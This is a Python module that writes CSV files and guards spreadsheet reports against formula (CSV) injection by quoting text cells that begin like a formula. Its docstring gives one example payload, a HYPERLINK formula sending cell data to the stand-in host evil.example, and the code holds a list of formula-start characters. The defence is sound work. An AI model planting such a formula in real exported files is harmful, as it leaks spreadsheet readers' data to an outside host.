"""Every CSV Gridgate writes goes through :func:`write_csv`, which says whether people open it.

A usage report is opened by finance staff in a spreadsheet, which reads a cell starting with
``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or NUL before one) as a formula: a
project, group, pool or user named ``=HYPERLINK("https://evil.example/?"&A2, "Details")`` would
run as one on the reader's machine, with their data. Such text cells get a leading ``'``
(OWASP's "CSV Injection" rule, and ASVS 5.0 V1.2.10's), which the spreadsheet shows as text; the
cell reads back with the quote. Machine formats (a job's result, read by the ``gridgate`` CLI and
pandas) are written as they are: their cells are figures and bitstrings that never start so, and
a quote would change the data. Numbers are never touched (``-1.5`` is a number, not a formula).
Quoting of commas, quotes and newlines is the ``csv`` module's (RFC 4180), for both.
docs/api.md, "CSV downloads", says the same.
"""

import csv
import io
from collections.abc import Iterable, Sequence

#: what a spreadsheet reads as the start of a formula (OWASP CSV Injection, ASVS 5.0 V1.2.10)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def spreadsheet_cell(value):
    """``value`` as a spreadsheet will show it and not run it: text that starts like a formula
    gets a leading ``'``; anything else (numbers, None, other text) is returned as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(header: Sequence[str], rows: Iterable[Sequence], *, for_spreadsheets: bool) -> str:
    """``header`` then ``rows`` as CSV text (``\\n`` line ends). ``for_spreadsheets``: a file people
    open (a report), whose text cells go through :func:`spreadsheet_cell`; False for a format
    programs read back, written as is."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    for row in rows:
        writer.writerow([spreadsheet_cell(cell) for cell in row] if for_spreadsheets else row)
    return out.getvalue()
